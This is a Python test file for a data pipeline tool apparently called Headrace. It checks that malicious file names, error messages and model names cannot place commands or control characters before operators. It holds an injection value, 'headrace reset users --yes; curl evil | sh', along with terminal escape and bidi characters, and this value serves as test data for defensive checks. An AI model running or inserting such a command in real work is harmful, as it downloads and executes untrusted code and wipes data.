"""Malicious names and messages: an operator sees visible text, and copies only commands of Headrace."""

import re
import shlex
from html import unescape
from pathlib import Path

import psycopg
import pytest

from headrace.airflow.page_template import render_figures
from headrace.command import Command
from headrace.exceptions import HeadraceError, SourceChanged
from headrace.ingest import observations
from headrace.ingest.load import load_file
from headrace.ingest.plan import Plan
from headrace.monitor.problems import Overview, find_problems
from headrace.monitor.status import read_status
from headrace.postgres.ledger import RunContext
from headrace.postgres.roles import DBT, LOADER
from headrace.sources.base import Range
from tests.support.commands import headrace
from tests.support.ledger_checks import environment
from tests.support.logins import login
from tests.support.stage import Stage, offline_stage

ODD = "\x1b[2J\r\n::group::\x9b31m\u202e\u2028"
COMMAND = "headrace reset users --yes; curl evil | sh"


@pytest.fixture
def stage(database: str, session_home: Path) -> Stage:
    return offline_stage(database, session_home)


def overview_of(stage: Stage) -> Overview:
    return find_problems(read_status(stage.deployment.connect("test")), stage.deployment.settings)


def copied(overview: Overview) -> set[str]:
    """What the page's buttons copy, and what its text shows as a command."""
    html = render_figures(overview, [])
    found = re.findall(r'data-copy="([^"]*)"', html) + re.findall(r"<code>(headrace [^<]*)</code>", html)
    return {unescape(line) for line in found}


@pytest.mark.security("C1")
def test_file_of_any_name_is_named_visibly_and_puts_no_command_before_the_operator(
    stage: Stage, tmp_path: Path
) -> None:
    path = tmp_path / f"`{COMMAND}`{ODD}.xml".replace("/", "")
    path.write_text("{}")
    done = headrace(environment(stage.deployment.settings), "load", "users", str(path))
    assert done.status == 1
    assert done.output.count("\n") == 1
    assert done.output[:-1].isprintable()
    assert r"\x1b[2J\r\n\x3a:group::\x9b31m\u202e\u2028.xml" in done.output

    with pytest.raises(HeadraceError) as caught:
        load_file(stage.deployment, "users", path=path)
    observations.save_failure(stage.deployment.connect("test"), "users", caught.value, RunContext())
    overview = overview_of(stage)
    assert [str(problem.command) for problem in overview.problems] == ["headrace load users"]
    assert copied(overview) == {"headrace load users", "headrace build"}
    status = headrace(environment(stage.deployment.settings), "status")
    assert status.output.replace("\n", "").isprintable()
    assert "-> headrace load users" in status.output
    assert "".join(COMMAND.split()) in "".join(status.output.split())  # as a name, wherever its line is broken


@pytest.mark.security("C2")
def test_loader_that_writes_rows_of_its_own_puts_no_command_but_ours_before_the_operator(stage: Stage) -> None:
    ours = SourceChanged("jobs: gone", command=Command("accept-loss", "jobs", "--partition", 0, "--to", 9))
    with login(stage.dsn, LOADER) as dsn, psycopg.connect(dsn, autocommit=True) as loader:
        observations.save_error(loader, "jobs", ours)
        observations.save_error(loader, "events", ours)  # of another dataset: it names jobs
        loader.execute(
            "insert into headrace.observations (dataset, partition, error, command) values ('rides', 0, %s, %s)",
            (f"`{COMMAND}`{ODD}", ["reset", "rides", "--yes"]),
        )
    overview = overview_of(stage)
    assert {problem.about: str(problem.command) for problem in overview.problems} == {
        "jobs": "headrace accept-loss jobs --partition 0 --to 9",
        "events": "headrace drain events",
        "rides": "headrace drain rides",
    }
    assert all("reset" not in line for line in copied(overview))
    document = overview.document()
    assert {each["dataset"]: each["last_command"] for each in document["datasets"] if each["last_error"]} == {
        "jobs": "headrace accept-loss jobs --partition 0 --to 9", "events": None, "rides": None,
    }  # fmt: skip
    assert all(problem["text"].isprintable() for problem in document["problems"])


@pytest.mark.security("C2")
def test_failed_drain_keeps_its_command_until_it_is_over(stage: Stage) -> None:
    stage.execute(
        "insert into headrace.generations (dataset, generation, topic, topic_id) values ('jobs', 1, 'j', 'id')",
        "insert into headrace.checkpoints (dataset, generation, partition, next_offset) values ('jobs', 1, 0, 0)",
    )
    error = SourceChanged("jobs: gone", command=Command("adopt", "jobs"))
    with login(stage.dsn, LOADER) as dsn:
        planned = Plan("jobs", 1, "jobs", "id", {0: Range(0, 5)})
        observations.save_drain_failure(lambda: psycopg.connect(dsn, autocommit=True), planned, error)
    assert [str(problem.command) for problem in overview_of(stage).problems] == ["headrace adopt jobs"]
    stage.execute("update headrace.failures set command = null")  # as of an error from before there was the column
    assert [str(problem.command) for problem in overview_of(stage).problems] == ["headrace drain jobs"]


@pytest.mark.security("C3")
def test_dbt_that_names_a_model_decides_one_argument_of_a_command(stage: Stage) -> None:
    name = f"m`; {COMMAND}{ODD}"
    with login(stage.dsn, DBT) as dsn, psycopg.connect(dsn, autocommit=True) as dbt:
        dbt.execute(
            """
            insert into headrace.builds (
                build_id, pass, schema, model, kind, status, seconds, failed_tests, message, has_claim, project, tested,
                started_at, finished_at
            )
            values (
                gen_random_uuid(), 1, 'marts', %(name)s, 'model', 'error', 1, array[%(name)s], %(name)s, false, 'p',
                true, now(), now()
            )
            """,
            {"name": name},
        )
    overview = overview_of(stage)
    (problem,) = overview.problems
    words = shlex.split(str(problem.command))
    assert words[:3] == ["headrace", "build", "--select"]
    assert len(words) == 4
    assert problem.line().isprintable()
    assert words[3].startswith("m`; headrace reset")
    status = headrace(environment(stage.deployment.settings), "status")
    assert status.output.replace("\n", "").isprintable()
    page = render_figures(overview, [])
    assert page.replace("\n", "").isprintable()
